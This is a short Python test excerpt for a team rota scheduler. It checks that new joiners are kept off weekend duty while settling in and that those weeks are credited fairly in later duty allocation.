def test_a_new_joiner_is_kept_off_weekends_while_settling_in(cast, team, lead, crew):
    """Hiring issue, point 5: no weekend duty in a new joiner's first
    ROTA_NEW_JOINER_WEEKS (4) weeks, even when they volunteer, and the reason says so."""
    from tests.factories import RotaWishFactory

    joiner = crew[4]
    joiner.hired_on = MONDAY - dt.timedelta(days=14)  # settles in until week 3
    joiner.save()
    settled = MONDAY + dt.timedelta(days=14)
    for day in (MONDAY + dt.timedelta(days=5), settled + dt.timedelta(days=5)):
        RotaWishFactory(associate=joiner, on=day, kind="volunteer")
    built = rota.build_problem(team, MONDAY, LAST)
    person = next(p for p in built.problem.people if p.id == joiner.pk)
    assert person.settling_in == {d for d in built.problem.weekend_days if d < settled}
    assert person.settling_in <= person.unavailable
    plan = solver.solve(built.problem)
    assert isinstance(plan, solver.RotaPlan)
    mine = [d for d in plan.duties if d.person_id == joiner.pk]
    assert mine
    assert all(d.on >= settled for d in mine)
    assert f"new joiner, settling in {MONDAY + dt.timedelta(days=5):%-d %b}" in mine[0].reason


def test_a_new_joiner_is_not_front_loaded_after_settling_in(cast, team, lead, crew, settings):
    """The settling-in weeks are credited as away at the period's rate, exactly as days
    before joining are: with the rule at 2 weeks, a joiner starting in week 1 gets the
    same credit as one who joined two weeks later with no rule."""
    joiner = crew[4]
    joiner.hired_on = MONDAY
    joiner.save()
    settings.ROTA_NEW_JOINER_WEEKS = 2
    with_rule = {p.id: p.history for p in rota.build_problem(team, MONDAY, LAST).problem.people}
    settings.ROTA_NEW_JOINER_WEEKS = 0
    joiner.hired_on = MONDAY + dt.timedelta(days=14)
    joiner.save()
    later = {p.id: p.history for p in rota.build_problem(team, MONDAY, LAST).problem.people}
    assert with_rule[joiner.pk] == later[joiner.pk] > 0
    assert {with_rule[p.pk] for p in crew if p != joiner} == {0}
